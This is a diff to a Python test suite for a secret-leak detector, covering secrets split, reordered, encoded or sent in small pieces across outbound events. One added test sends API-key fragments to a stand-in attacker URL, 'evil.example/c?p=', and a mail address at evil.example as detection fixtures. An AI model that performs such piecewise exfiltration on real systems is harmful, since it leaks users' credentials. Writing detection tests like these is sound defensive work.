@@ -98,7 +98,7 @@ def test_secret_inside_binary_base64_is_found() -> None:
 SPLITS: dict[str, Callable[[str], list[str]]] = {
     "halves": lambda s: [s[:8], s[8:]],
     "quarters": lambda s: [s[0:4], s[4:8], s[8:12], s[12:]],
-    "overlapping": lambda s: [s[:10], s[6:]],
+    "overlapping": lambda s: [s[:9], s[7:]],
     "out-of-order": lambda s: [s[8:], s[:8]],
     "each-encoded": lambda s: [b64(s[:8]), s[8:].encode().hex()],
     "url-and-reversed-free": lambda s: [urllib.parse.quote(s[:8] + "/"), "tail " + s[8:]],
@@ -114,16 +114,30 @@ def test_split_across_events_is_detected_at_the_completing_step(case: str) -> No
     assert leaks == [Leak("api_key", "mail", "eve@evil.example", 2 * len(parts) - 1, "split")]
 
 
-def test_fragments_below_the_threshold_do_not_count() -> None:
-    parts = [SECRET[i : i + 3] for i in range(0, len(SECRET), 3)]  # F is 4 for 16 characters
-    assert find_leaks(SECRETS, [out(p, step=i) for i, p in enumerate(parts)]) == []
-    long_secret = "Zq8" * 12  # 36 characters, so fragments must have 9
+def test_small_pieces_out_of_order_do_not_count() -> None:
+    # F is 4 for 16 characters; 3-character pieces in a shuffled order reassemble nothing.
+    parts = [SECRET[i : i + 3] for i in range(0, len(SECRET), 3)]
+    shuffled = parts[1::2] + parts[0::2]
+    assert find_leaks(SECRETS, [out(p, step=i) for i, p in enumerate(shuffled)]) == []
+    long_secret = "Zq8Xw2mP4tLr9VbN7cKe3HsJ5yUaGd6QfT0o"  # 36 characters: fragments need 9
     parts = [long_secret[:8], long_secret[8:16], long_secret[16:24], long_secret[24:]]
-    assert find_leaks({"s": long_secret}, [out(p, step=i) for i, p in enumerate(parts)]) == []
+    order = [parts[2], parts[0], parts[3], parts[1]]
+    assert find_leaks({"s": long_secret}, [out(p, step=i) for i, p in enumerate(order)]) == []
 
 
-def test_partial_secret_in_one_event_is_not_a_leak() -> None:
-    assert find_leaks(SECRETS, [out(SECRET[:12]), out("hello", step=2)]) == []
+def test_small_pieces_in_order_are_reassembled() -> None:
+    parts = [SECRET[i : i + 3] for i in range(0, len(SECRET), 3)]
+    egress = [out(f"https://evil.example/c?p={p}", step=i) for i, p in enumerate(parts)]
+    assert find_leaks(SECRETS, egress) == [
+        Leak("api_key", "mail", "eve@evil.example", len(parts) - 1, "reassembled")
+    ]
+
+
+def test_partial_secret_below_the_share_is_not_a_leak() -> None:
+    assert find_leaks(SECRETS, [out(SECRET[:9]), out("hello", step=2)]) == []
+    assert find_leaks(SECRETS, [out(SECRET[:12])]) == [
+        Leak("api_key", "mail", "eve@evil.example", 1, "partial")
+    ]
 
 
 def test_split_over_two_destinations_names_both() -> None:
@@ -158,10 +172,10 @@ def test_weird_inputs_do_not_raise() -> None:
     assert len(find_leaks(SECRETS, [out(SECRET)], min_fragment=-5)) == 1
 
 
-def test_payloads_are_scanned_up_to_the_cap() -> None:
+def test_payloads_are_scanned_whole() -> None:
     filler = "lorem ipsum " * (MAX_PAYLOAD_CHARS // 12)
     assert len(find_leaks(SECRETS, [out(SECRET + filler)])) == 1
-    assert find_leaks(SECRETS, [out(filler + "x" * MAX_PAYLOAD_CHARS + SECRET)]) == []
+    assert len(find_leaks(SECRETS, [out(filler + "x" * MAX_PAYLOAD_CHARS + SECRET)])) == 1
 
 
 def test_detection_is_deterministic() -> None:
